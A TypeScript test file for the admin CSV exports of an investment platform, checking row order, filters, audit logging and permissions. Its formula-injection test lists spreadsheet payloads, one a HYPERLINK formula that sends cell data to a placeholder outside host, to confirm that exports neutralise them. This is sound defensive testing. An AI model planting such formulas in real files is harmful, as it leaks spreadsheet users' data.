import { ZERO_CENTS } from "@wazi/domain";
import { randomUUID } from "node:crypto";
import type { AdminDeposit, AdminUser, AdminVerification, AdminWithdrawal, AuditEvent } from "@wazi/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportTable } from "../../apps/server/src/record/exports/export-table.ts";
import { formatTextCell } from "../../apps/server/src/platform/csv/csv-cells.ts";
import { createTurns } from "../../apps/server/src/platform/base/turns.ts";
import { openPool, type Sql } from "../../apps/server/src/platform/db/pool.ts";
import { buildDepositTable } from "../../apps/server/src/deposits/requests/admin-table.ts";
import { buildWithdrawalTable } from "../../apps/server/src/withdrawals/requests/admin-table.ts";
import { errorOf, settleWithdrawal } from "../harness/money-calls.ts";
import { startTestApp, type TestAnswer, type TestApp } from "../harness/test-app.ts";
import { cellsOf, pageOf, walkTable } from "../harness/walk-table.ts";
import { seedBackOffice } from "../../lab/commands/seeding/seed-back-office.ts";

let test: TestApp;
let owner: Sql;

/** Texts that a spreadsheet would run as formulas. */
const formulas = [
  '=HYPERLINK("https://elsewhere.example?"&A1)',
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1",
  " =1+1",
  "＝1",
] as const;

beforeAll(async () => {
  test = await startTestApp();
  owner = openPool(test.database.url, { role: null, max: 1 });
  await seedBackOffice(owner, {
    seed: 3,
    now: new Date("2026-11-01T12:00:00Z"),
    users: 60,
    // More rows than one read.
    deposits: 560,
    withdrawals: 90,
    hashedPassword: "-",
    allowExistingUsers: false,
  });
});
afterAll(async () => {
  await owner.end();
  await test.close();
});

const readExport = async (path: string): Promise<{ answer: TestAnswer; titles: string[]; rows: string[][] }> => {
  const answer = await test.admin.call("GET", path);
  if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${answer.text}`);
  const [titles = [], ...rows] = cellsOf(answer.text);
  return { answer, titles, rows };
};

/** The cells below a title. */
const column = ({ titles, rows }: { titles: string[]; rows: string[][] }, title: string): string[] => {
  const place = titles.indexOf(title);
  if (place < 0) throw new Error(`no column ${title} among ${titles.join(", ")}`);
  return rows.map((row) => row[place] ?? "");
};

const listExportEvents = async (table: string): Promise<AuditEvent[]> =>
  (await pageOf<AuditEvent>(test.admin, `/api/admin/audit?action=${table}.export&limit=200`)).items;

describe("exports of the back office", () => {
  it.each(["users", "deposits", "withdrawals", "verifications"])(
    "of %s have every row of the list in its order, as a download that is not cached",
    async (table) => {
      for (const sort of ["-createdAt", table === "users" ? "name" : "user"]) {
        const { onwards } = await walkTable<{ id: string }>(test.admin, `/api/admin/${table}?sort=${sort}&limit=200`);
        const file = await readExport(`/api/admin/${table}.csv?sort=${sort}`);
        expect(column(file, "ID")).toEqual(onwards.flatMap(({ items }) => items.map(({ id }) => id)));
        const day = new Date().toISOString().slice(0, 10);
        expect(file.answer.headers).toMatchObject({
          "content-type": "text/csv; charset=utf-8",
          "content-disposition": `attachment; filename="wazi-${table}-${day}.csv"`,
          "cache-control": "no-store",
        });
        expect(new Set(file.rows.map((row) => row.length))).toEqual(new Set([file.titles.length]));
      }
    },
  );

  it("have the figures of the list as plain numbers, and times in UTC", async () => {
    const deposits = (await walkTable<AdminDeposit>(test.admin, "/api/admin/deposits?limit=200")).onwards;
    const listed = deposits.flatMap(({ items }) => items);
    const file = await readExport("/api/admin/deposits.csv");
    expect(column(file, "Amount (USD)")).toEqual(listed.map(({ amount }) => amount));
    expect(column(file, "Received (USD)")).toEqual(listed.map(({ receivedAmount }) => receivedAmount ?? ""));
    expect(column(file, "Started (UTC)")).toEqual(listed.map(({ createdAt }) => createdAt));
    expect(column(file, "Ended (UTC)")).toEqual(listed.map(({ settledAt }) => settledAt ?? ""));
    expect(column(file, "Ended by")).toEqual(listed.map(({ settledBy }) => settledBy?.email ?? ""));
    expect(file.answer.text).toMatch(/,\d+\.\d{2},/);

    const users = (await walkTable<AdminUser>(test.admin, "/api/admin/users?limit=200")).onwards;
    const people = users.flatMap(({ items }) => items);
    const userFile = await readExport("/api/admin/users.csv");
    expect(column(userFile, "Balance (USD)")).toEqual(people.map(({ account }) => account.balance));
    expect(column(userFile, "Own money in bots (USD)")).toEqual(people.map(({ account }) => account.totalInvested));
    expect(column(userFile, "Last signed in (UTC)")).toEqual(people.map(({ lastLoginAt }) => lastLoginAt ?? ""));

    const withdrawals = (await pageOf<AdminWithdrawal>(test.admin, "/api/admin/withdrawals?limit=200")).items;
    const withdrawalFile = await readExport("/api/admin/withdrawals.csv");
    const shown = column(withdrawalFile, "Destination");
    expect(shown).toEqual(withdrawals.map(({ destination }) => destination));

    const documents = (await pageOf<AdminVerification>(test.admin, "/api/admin/verifications?limit=200")).items;
    const documentFile = await readExport("/api/admin/verifications.csv");
    expect(column(documentFile, "Document number")).toEqual(documents.map(({ documentNumber }) => documentNumber));
    expect(column(documentFile, "Reviewed by")).toEqual(documents.map(({ reviewedBy }) => reviewedBy?.email ?? ""));
  });

  it("apply the filters", async () => {
    const address = "status=failed&search=com&sort=amount";
    const { onwards } = await walkTable<AdminDeposit>(test.admin, `/api/admin/deposits?${address}&limit=200`);
    const ids = onwards.flatMap(({ items }) => items.map(({ id }) => id));
    expect(ids.length).toBeGreaterThan(3);
    expect(column(await readExport(`/api/admin/deposits.csv?${address}`), "ID")).toEqual(ids);
    expect((await readExport("/api/admin/deposits.csv?search=no+such+text")).rows).toEqual([]);
  });

  it("never have a text that a spreadsheet would run as a formula", async () => {
    const investor = await test.funded("5000");
    for (const formula of formulas) {
      const asked = await investor.call("POST", "/api/user/withdrawals", {
        amount: "11",
        withdrawalType: "bank",
        country: "Kenya",
        bankName: formula,
        accountName: `${formula}, "quoted"\r\nand on`,
        destinationAddress: "0123456789",
      });
      expect([formula, asked.status, asked.text]).toMatchObject([formula, 201, expect.anything()]);
      await settleWithdrawal(test.admin, (asked.body as { id: string }).id, { status: "rejected", notes: formula });
    }
    await owner`update users set first_name = ${formulas[0]}, last_name = ${formulas[3]}, phone = '+254712345678'
      where id = ${investor.userId}`;
    const withdrawals = await readExport(`/api/admin/withdrawals.csv?user=${investor.userId}&sort=createdAt`);
    const trimmed = formulas.map((formula) => formula.trim());
    expect(column(withdrawals, "Bank")).toEqual(trimmed.map((formula) => `'${formula}`));
    expect(column(withdrawals, "Note")).toEqual(trimmed.map((formula) => `'${formula}`));
    expect(column(withdrawals, "Account name")).toEqual(trimmed.map((formula) => `'${formula}, "quoted"\r\nand on`));
    expect(new Set(column(withdrawals, "Investor"))).toEqual(new Set([`'${formulas[0]} ${formulas[3]}`]));
    const users = await readExport(`/api/admin/users.csv?search=${encodeURIComponent(investor.email)}`);
    expect(column(users, "First name")).toEqual([`'${formulas[0]}`]);
    expect(column(users, "Phone")).toEqual(["'+254712345678"]);
    for (const file of [withdrawals, users, await readExport("/api/admin/deposits.csv")]) {
      const cells = file.rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
      expect(cells.filter((cell) => /^[\s\0]*[=+\-@\t\r\n\0＝＋－＠]/u.test(cell))).toEqual([]);
    }
  });

  it("are in the audit log with the administrator, the filters and the number of rows", async () => {
    const before = (await listExportEvents("users")).length;
    const file = await readExport("/api/admin/users.csv?search=a&sort=-balance");
    const [entry] = await listExportEvents("users");
    expect(await listExportEvents("users")).toHaveLength(before + 1);
    // A search may be a person's name, which must not stay in the log after a deletion.
    expect(entry).toMatchObject({
      actorId: test.admin.userId,
      actor: { email: "admin@wazi.local" },
      subjectType: "table",
      subjectId: "users",
      before: null,
      after: { filters: { search: "(not kept)", sort: "-balance" }, rows: file.rows.length },
    });
  });

  it("end at the row limit and say so", async () => {
    const deps = { sql: test.sql, now: () => new Date("2026-11-21T23:59:59Z") };
    const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
    const source = buildDepositTable(test.sql, { sort: "amount" });
    const input = {
      admin: { id: admin!.id, address: null },
      query: {},
      columns: [["ID", ({ id }: AdminDeposit) => formatTextCell(id)]] as const,
      read: createTurns(2),
    };
    const total = (await source.countRows()) ?? 0;
    for (const most of [3, 505, total, total + 1]) {
      const file = await exportTable(deps, source, input, most);
      let text = "";
      for await (const piece of file.content) text += piece;
      const rows = cellsOf(text).slice(1);
      const left = total - most;
      const note = `More rows are not in this file. A file has at most ${most} rows. Please narrow the filters.`;
      expect([most, rows.length, rows.at(-1)?.[0]]).toEqual(
        left > 0 ? [most, most + 1, note] : [most, total, expect.stringMatching(/^[\da-f-]{36}$/)],
      );
      expect(file.name).toBe("wazi-deposits-2026-11-21.csv");
    }
    expect((await listExportEvents("deposits")).slice(0, 4).map(({ after }) => after?.["rows"])).toEqual([
      total,
      total,
      505,
      3,
    ]);
  });
});

describe("an export", () => {
  const piecesOf = async (query: object): Promise<AsyncGenerator<string>> => {
    const deps = { sql: test.sql, now: () => new Date() };
    const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
    const asked = (): never => {
      throw new Error("read again");
    };
    const source = buildWithdrawalTable(
      { ...deps, aloneRule: { limit: ZERO_CENTS, bindsOnlyOne: false }, payouts: null },
      admin!.id,
      {
        sort: "amount",
        ...query,
      },
    );
    const once = { ...source, readRows: asked, readCounted: asked, countRows: asked };
    const columns = [["ID", ({ id }: AdminWithdrawal) => formatTextCell(id)]] as const;
    const input = { admin: { id: admin!.id, address: null }, query: {}, columns, read: createTurns(2) };
    return (await exportTable(deps, once, input)).content;
  };
  const idsOf = async (pieces: AsyncGenerator<string>): Promise<string[]> => {
    let text = "";
    for await (const piece of pieces) text += piece;
    return cellsOf(`\ufeff${text}`).map(([id]) => id ?? "");
  };

  it("searches its table once for all rows", async () => {
    const pieces = await piecesOf({ search: "example" });
    await pieces.next();
    const { items } = await pageOf<AdminWithdrawal>(
      test.admin,
      "/api/admin/withdrawals?search=example&sort=amount&limit=200",
    );
    expect(await idsOf(pieces)).toEqual(items.map(({ id }) => id));
  });

  it("has no rows that are added while it runs, and leaves out rows that are deleted or no longer match", async () => {
    const listed = "/api/admin/withdrawals?status=completed&sort=amount&limit=200";
    const before = (await pageOf<AdminWithdrawal>(test.admin, listed)).items.map(({ id }) => id);
    const pieces = await piecesOf({ status: "completed" });
    await pieces.next();
    await owner`update withdrawals set hidden_at = now(), hidden_by = ${test.admin.userId} where id = ${before[2]!}`;
    await owner`update withdrawals set status = 'rejected' where id = ${before[4]!}`;
    await owner`update withdrawals set status = 'completed' where id = (
      select id from withdrawals where status = 'rejected' and hidden_at is null and id <> ${before[4]!} limit 1)`;
    expect(await idsOf(pieces)).toEqual(before.filter((_, place) => place !== 2 && place !== 4));
  });
});

describe("permission to export", () => {
  const files = ["users", "deposits", "withdrawals", "verifications"].map((table) => `/api/admin/${table}.csv`);

  it("has every administrator role and no other user", async () => {
    const investor = await test.signUp();
    const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
    for (const role of ["read-only", "money", "full"]) {
      await owner`update users set admin_role = ${role} where id = ${admin!.id}`;
      for (const file of files) expect([role, (await test.admin.call("GET", file)).status]).toEqual([role, 200]);
    }
    const taken = await owner`select from audit_log where action like '%.export'`;
    for (const file of files) {
      expect((await test.visitor().call("GET", file)).status).toBe(401);
      expect((await investor.call("GET", file)).status).toBe(403);
    }
    expect(await owner`select from audit_log where action like '%.export'`).toHaveLength(taken.length);
  });

  it("is refused to links on other sites, which would write to the audit log", async () => {
    const taken = await owner`select from audit_log where action like '%.export'`;
    for (const file of files) {
      const answer = await test.admin.call("GET", file, undefined, { "sec-fetch-site": "cross-site" });
      expect([answer.status, errorOf(answer).code]).toEqual([403, "FORBIDDEN"]);
    }
    expect(await owner`select from audit_log where action like '%.export'`).toHaveLength(taken.length);
  });

  it.each(["limit=5", "cursor=a", "sort=status", "format=xlsx", `user=${randomUUID()}x`])(
    "does not include the unknown parameter ?%s: 400",
    async (query) => {
      for (const file of files) {
        const answer = await test.admin.call("GET", `${file}?${query}`);
        expect([file, answer.status, errorOf(answer).code]).toEqual([file, 400, "VALIDATION"]);
      }
    },
  );
});
